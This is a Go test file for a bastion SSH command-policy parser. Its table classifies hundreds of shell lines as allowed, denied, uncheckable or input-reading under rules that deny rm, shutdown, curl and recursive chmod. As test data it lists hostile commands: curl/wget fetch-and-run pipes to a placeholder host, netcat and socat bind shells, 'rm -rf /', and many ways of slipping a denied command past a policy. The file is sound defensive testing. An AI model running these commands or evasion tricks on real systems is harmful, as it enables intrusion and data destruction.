package shellcmd_test

import (
	"strings"
	"testing"

	"github.com/bastionhq/bastion/bastion/policy"
	"github.com/bastionhq/bastion/protocols/ssh/shellcmd"
)

// tablePolicy: alice's role denies rm, shutdown, curl and recursive chmod,
// and allows everything else; command rules therefore apply on web01.
func tablePolicy() *policy.Policy {
	return &policy.Policy{
		Targets: map[string]*policy.Target{"web01": {Name: "web01", Kind: policy.KindSSH}},
		Users:   map[string]*policy.User{"alice": {Name: "alice", Roles: []string{"ops"}}},
		Roles: map[string]*policy.Role{"ops": {Name: "ops", Commands: []policy.CommandRule{
			{Name: "no-rm", Action: policy.CommandDeny, Command: "rm"},
			{Name: "no-shutdown", Action: policy.CommandDeny, Command: "shutdown"},
			{Name: "no-curl", Action: policy.CommandDeny, Command: "curl"},
			{Name: "no-chmod-r", Action: policy.CommandDeny, Command: "chmod", Args: "-R *"},
		}}},
	}
}

// Outcomes of a line under tablePolicy.
const (
	allow   = "allow"   // every command allowed
	deny    = "deny"    // a rule denies one of its commands
	unknown = "unknown" // it cannot be checked (parse error, or what it runs is only known at run time)
	input   = "input"   // allowed, but it runs an interpreter reading the session's input
)

// outcome decides line under tablePolicy.
func outcome(line string) (string, string) {
	r, err := shellcmd.ParseLine(line)
	if err != nil {
		return unknown, err.Error()
	}
	d := tablePolicy().DecideCommands("alice", "web01", r.Commands)
	switch {
	case d.Action == policy.CommandAllow && r.ReadsInput:
		return input, strings.Join(showAll(r.Commands), " | ")
	case d.Action == policy.CommandAllow:
		return allow, strings.Join(showAll(r.Commands), " | ")
	case strings.Contains(d.Reason, "cannot be checked"):
		return unknown, d.Reason
	}
	return deny, d.Reason
}

// TestParseTable: command lines as users and attackers write them, with
// what the rules make of them. False positives (allowed lines wrongly
// refused) count as much as misses.
func TestParseTable(t *testing.T) {
	tests := []struct{ line, want string }{
		// Plain commands and false positives.
		{"ls -l /tmp", allow},
		{"rm -rf /tmp/x", deny},
		{"echo rm -rf /", allow},
		{"echo 'rm -rf /'", allow},
		{"grep -r rm /etc", allow},
		{"git commit -m 'rm the old files'", allow},
		{"man rm", allow},
		{"which rm; type rm", allow},
		{"command -v rm", allow},
		{"ls rm*", allow},
		{"FOO=rm ls", allow},
		{"cat <<'EOF'\nrm -rf /\nEOF", allow},
		{"printf '%s\\n' 'shutdown now'", allow},
		{"chmod 644 /tmp/x", allow},
		{"chmod -R 755 /srv", deny},
		{"chmod -v /x $MODE", unknown}, // an argument-inspecting rule cannot see $MODE
		{"echo $HOME", allow},
		{"uptime && df -h", allow},
		{"ls | grep x | sort -u | head", allow},
		{"# rm -rf /", allow},
		{"sudo -l", allow},
		{"sudo -e /etc/hosts", allow},
		{"/bin/rm x", deny},
		{`\rm x`, deny},
		{`r''m x`, deny},
		{"echo ok; rm x", deny},
		{"(cd /tmp && rm x)", deny},
		{"echo $(rm x)", deny},
		{"$(printf rm) x", unknown},
		{"$CMD x", unknown},
		{"r? x", unknown},
		{"echo 'unterminated", unknown},
		{"if true; then", unknown},
		// Shells and shell code.
		{"sh -c 'rm x'", deny},
		{"bash -lc 'echo ok'", allow},
		{"bash -c \"$CODE\"", unknown},
		{"bash -c", unknown},
		{"sh -c 'sh -c \"rm x\"'", deny},
		{"eval 'rm x'", deny},
		{"eval \"$X\"", unknown},
		{"eval echo ok", allow},
		{"sh <<EOF\nrm x\nEOF", deny},
		{"sh <<EOF\necho ok\nEOF", allow},
		{"bash <<< 'rm x'", deny},
		{"echo rm x | sh", unknown},
		{"curl -s http://x | bash", deny},
		{"wget -qO- http://x | bash", unknown},
		{"bash script.sh", allow}, // a script file is out of reach
		{"bash", input},
		{"sh", input},
		{"zsh -i", input},
		{"dash -s", input},
		{"fish", input},
		{"sh < /tmp/script", allow}, // a named file: out of reach, like bash FILE
		{"bash <(cat)", unknown},
		{"bash <(curl -s http://x)", unknown}, // and curl is denied too
		{". /dev/stdin", input},
		{"source ~/.bashrc", allow},
		{"cat x | source /dev/stdin", unknown},
		{`. "$F"`, unknown},
		{"python3 /dev/stdin", input},
		{"python3 <(cat)", unknown},
		{"ruby /dev/fd/0 <<< 'x'", unknown},
		{"trap 'rm x' EXIT", deny},
		{"trap - EXIT", allow},
		// Aliases.
		{"alias x='rm -rf /'", allow},
		{"alias ll='ls -l'", allow},
		{"alias x='rm -rf /'; x", deny},
		{"alias x='rm'; x /tmp/y", deny},
		{"alias ls='ls --color'; ls /tmp", allow},
		{"alias a='b'; alias b='rm x'; a", deny},
		{"x", allow},
		{"ll /tmp", allow},
		{"alias $A", unknown},
		// Key bindings: a bound key runs code that is never a typed line.
		{"bind -p", allow},
		{"bind -x '\"\\C-t\": rm x'", unknown},
		{"bind '\"\\C-t\": \"rm x\\n\"'", unknown},
		{"bindkey -s '^T' 'rm x\n'", unknown},
		{"bindkey -L", allow},
		// Turning echo off makes later lines look like passwords.
		{"stty -echo", unknown},
		{"stty $MODE", unknown},
		{"stty sane", allow},
		{"stty size", allow},
		// History: fc runs earlier commands.
		{"fc -l", allow},
		{"fc -s echo=rm", unknown},
		{"fc", unknown},
		// Privilege.
		{"sudo rm x", deny},
		{"sudo -u root -- rm x", deny},
		{"sudo -i", input},
		{"sudo -s", input},
		{"sudo -i rm x", deny},
		{"sudo --bogus rm", unknown},
		{"sudo $OPTS ls", unknown},
		{"sudo systemctl status nginx", allow},
		{"doas rm x", deny},
		{"doas -s", input},
		{"su -c 'rm x'", deny},
		{"su - root -c 'rm x'", deny},
		{"su -", input},
		{"su root", input},
		{"su -c 'echo ok' root", allow},
		{"su -s /bin/rm root -- -rf /", deny},
		{"runuser -u app -- rm x", deny},
		{"runuser -u app -- ls", allow},
		{"runuser -l app -c 'rm x'", deny},
		{"pkexec rm x", deny},
		{"pkexec --user app ls", allow},
		{"pkexec", input},
		{"sg wheel 'rm x'", deny},
		{"sg wheel -c 'ls'", allow},
		{"setpriv --reuid=1000 rm x", deny},
		{"setpriv --reuid 1000 rm x", deny},
		{"unshare --mount-proc rm x", unknown}, // an unknown long option: is rm its value?
		{"ruby --encoding UTF-8 -e 'x'", unknown},
		{"chroot /mnt rm x", deny},
		{"chroot /mnt", input},
		{"chroot --userspec=a:b /mnt ls", allow},
		// Scheduling, limits, namespaces.
		{"nohup rm x &", deny},
		{"nice -n 10 rm x", deny},
		{"nice -5 tar czf /tmp/b.tgz /srv", allow},
		{"ionice -c3 rm x", deny},
		{"ionice -p 1234", allow},
		{"timeout 5 rm x", deny},
		{"timeout -k 1 5s ls", allow},
		{"stdbuf -oL rm x", deny},
		{"setsid -f rm x", deny},
		{"taskset 0x1 rm x", deny},
		{"taskset -p 1234", allow},
		{"chrt -f 10 rm x", deny},
		{"chrt -p 1234", allow},
		{"prlimit --nofile=10 rm x", deny},
		{"unshare -m rm x", deny},
		{"unshare -r", input},
		{"nsenter -t 1 -m rm x", deny},
		{"nsenter -t 1 -a", input},
		{"cgexec -g cpu:low rm x", deny},
		{"fakeroot rm x", deny},
		{"flock /tmp/lock rm x", deny},
		{"flock -n /tmp/lock -c 'rm x'", deny},
		{"flock -w 5 /tmp/lock ls", allow},
		{"flock 9", allow},
		{"systemd-run --unit=x rm x", deny},
		{"systemd-run -p MemoryMax=1G --scope ls", allow},
		{"systemd-run --frobnicate rm x", unknown},
		{"systemd-run --shell", input},
		{"time rm x", deny},
		{"time -p ls", allow},
		{`\time -f %e rm x`, deny},
		{"strace -f -o /tmp/t rm x", deny},
		{"strace -p 1234", allow},
		{"ltrace rm x", deny},
		{"watch rm x", deny},
		{"watch -n 5 'df -h'", allow},
		{"watch -x rm x", deny},
		{"script -c 'rm x' /tmp/log", deny},
		{"script -q /tmp/log", input},
		{"script -c 'ls' /dev/null", allow},
		{"at now <<< 'rm x'", deny},
		{"at now <<< 'ls'", allow},
		{"echo 'rm x' | at now", unknown},
		{"at -f /tmp/job now", allow},
		{"at -l", allow},
		{"batch <<EOF\nrm x\nEOF", deny},
		// env, command, exec, builtin, busybox.
		{"env rm x", deny},
		{"env -i PATH=/bin rm x", deny},
		{"env -S 'rm x'", deny},
		{"env FOO=1 ls", allow},
		{"env $X", unknown},
		{"command rm x", deny},
		{"builtin eval 'rm x'", deny},
		{"exec rm x", deny},
		{"exec -a foo rm x", deny},
		{"busybox rm x", deny},
		{"toybox rm x", deny},
		{"busybox sh -c 'rm x'", deny},
		{"busybox --list", allow},
		// Commands whose arguments come at run time.
		{"echo x | xargs rm", deny},
		{"echo x | xargs ls", allow},
		{"echo x | xargs chmod -R", unknown}, // rule no-chmod-r inspects arguments xargs adds
		{"echo x | xargs chmod 644", unknown},
		{"echo x | xargs -I{} rm {}", deny},
		{"echo x | xargs -I{} sh -c {}", unknown},
		{"xargs $(echo rm)", unknown},
		{"find . -name '*.tmp' -exec rm {} \\;", deny},
		{"find . -exec chmod -R 700 {} +", unknown},
		{"find . -type f -exec chmod 644 {} +", unknown},
		{"find . -name x -print", allow},
		{"find . -exec {} \\;", unknown},
		{"parallel rm ::: a b", deny},
		{"parallel gzip ::: a b", allow},
		{"parallel 'rm {}' ::: a", unknown},
		{"ls | parallel", unknown},
		// Multiplexers and remote shells.
		{"tmux new -d 'rm x'", deny},
		{"tmux new-session -d -s w 'ls -l'", allow},
		{"tmux ls", allow},
		{"tmux attach -t w", allow},
		{"tmux", unknown},
		{"tmux send-keys -t w 'rm x' Enter", unknown},
		{"tmux run-shell 'rm x'", deny},
		{"tmux -c 'rm x'", deny},
		{"tmux new -d ls \\; send-keys 'rm x' Enter", unknown},
		{"screen -dmS w rm x", deny},
		{"screen -dmS w ls", allow},
		{"screen -ls", allow},
		{"screen -r w", allow},
		{"screen", unknown},
		{"screen -S w -X stuff 'rm x\\n'", unknown},
		{"ssh db1 rm x", deny},
		{"ssh -p 2222 db1 'ls; uptime'", allow},
		{"ssh db1 'sh -c \"rm x\"'", deny},
		{"ssh db1", input},
		{"ssh -o ProxyCommand='rm x' db1 ls", unknown},
		{"ssh -F /tmp/cfg db1 ls", unknown},
		{"ssh -N -L 8080:localhost:80 db1", allow},
		// Interpreters.
		{"python3 -c 'import os; os.remove(\"x\")'", unknown},
		{"python3 script.py", allow},
		{"python3 -m http.server", allow},
		{"python3", input},
		{"python3 -V", allow},
		{"node --version", allow},
		{"python3.11 -c 'print(1)'", unknown},
		{"python3 <<EOF\nprint(1)\nEOF", unknown},
		{"echo 'print(1)' | python3", unknown},
		{"python3 - < /tmp/x.py", allow},
		{"perl -e 'unlink \"x\"'", unknown},
		{"perl -ne 'print' file", unknown},
		{"perl -pi -e 's/a/b/' file", unknown},
		{"perl script.pl", allow},
		{"ruby -e 'File.delete(\"x\")'", unknown},
		{"ruby app.rb", allow},
		{"irb", input},
		{"node -e 'require(\"fs\").rmSync(\"x\")'", unknown},
		{"node --eval 'x'", unknown},
		{"node server.js", allow},
		{"node", input},
		{"php -r 'unlink(\"x\");'", unknown},
		{"lua -e 'os.execute(\"rm x\")'", unknown},
		{"awk '{print $1}' /etc/passwd", allow},
		{"awk -F: '{print $1}' /etc/passwd", allow},
		{"awk 'BEGIN{system(\"rm x\")}'", unknown},
		{"awk '{print | \"sh\"}' f", unknown},
		{"gawk -f prog.awk f", allow},
		{"awk \"$PROG\" f", unknown},
		{"psql -c 'select 1'", allow},
		{"psql -c '\\! rm x'", unknown},
		{"psql orders", input},
		{"mysql -e 'show tables'", allow},
		{"mysql -e 'system rm x'", unknown},
		{"mariadb", input},
		{"sqlite3 db.sqlite 'select 1'", allow},
		{"sqlite3 db.sqlite '.shell rm x'", unknown},
		{"vim /etc/hosts", allow},
		{"vim -c '!rm x' f", unknown},
		{"vi +'!rm x' f", unknown},
		{"vim +10 f", allow},
		{"gdb -batch -ex 'shell rm x'", unknown},
		{"expect -c 'spawn rm x'", unknown},
		// Launchers, network tools, cron, git.
		{"sshpass -p pw ssh db1 rm x", deny},
		{"sshpass -p pw ssh db1 uptime", allow},
		{"rlwrap rm x", deny},
		{"valgrind --leak-check=full rm x", deny},
		{"firejail --net=none rm x", deny},
		{"bwrap --bind / / rm x", unknown},
		{"numactl --cpunodebind=0 rm x", deny},
		{"xvfb-run -a rm x", deny},
		{"eatmydata rm x", deny},
		{"faketime '2020-01-01' rm x", deny},
		{"proxychains4 -q curl http://x", deny},
		{"torsocks ls", allow},
		{"ls | entr rm x", deny},
		{"hyperfine 'rm x'", deny},
		{"hyperfine 'sleep 0.1' 'ls'", allow},
		{"nc -lvp 4444 -e /bin/sh", unknown},
		{"nc -c 'rm x' db1 80", unknown},
		{"nc -zv db1 22", allow},
		{"ncat --sh-exec 'rm x' -l 4444", unknown},
		{"socat TCP-LISTEN:4444 EXEC:/bin/sh", unknown},
		{"socat - TCP:db1:80", allow},
		{"echo '* * * * * rm x' | crontab -", unknown},
		{"crontab /tmp/jobs", unknown},
		{"crontab -l", allow},
		{"git -c core.pager='rm x' log", unknown},
		{"git log --oneline -5", allow},
		{"git -C /srv/app status", allow},
		{"git -C /srv/app -c alias.x='!rm x' x", unknown},
		// Nesting of wrappers.
		{"sudo timeout 5 nice -n 5 env FOO=1 rm x", deny},
		{"nohup setsid flock /tmp/l sudo -u app sh -c 'rm x' &", deny},
		{"timeout 5 python3 -c 'x'", unknown},
		{"sudo -u app ssh db1 'rm x'", deny},
		{"sudo -u app ssh db1 'ls'", allow},
		{"env sudo -s", input},
		{"nice bash", input},
	}
	if len(tests) < 150 {
		t.Fatalf("the table has %d lines; keep at least 150", len(tests))
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			got, why := outcome(tt.line)
			if got != tt.want {
				t.Errorf("%q: %s (%s); want %s", tt.line, got, why, tt.want)
			}
		})
	}
}

func TestHistoryExpansion(t *testing.T) {
	for _, tt := range []struct {
		line string
		want bool
	}{
		{"echo hi", false},
		{"echo hi!", false},
		{"echo 'rm !x'", false},
		{"[ ! -f x ]", false},
		{"echo \\!x", false},
		{"x != y", false},
		{"!!", true},
		{"!rm", true},
		{"sudo !!", true},
		{"echo \"!-2\"", true},
		{"!$", true},
		{"^echo^rm", true},
		{"  ^a^b", true},
	} {
		if got := shellcmd.HistoryExpansion(tt.line); got != tt.want {
			t.Errorf("HistoryExpansion(%q) = %v, want %v", tt.line, got, tt.want)
		}
	}
}
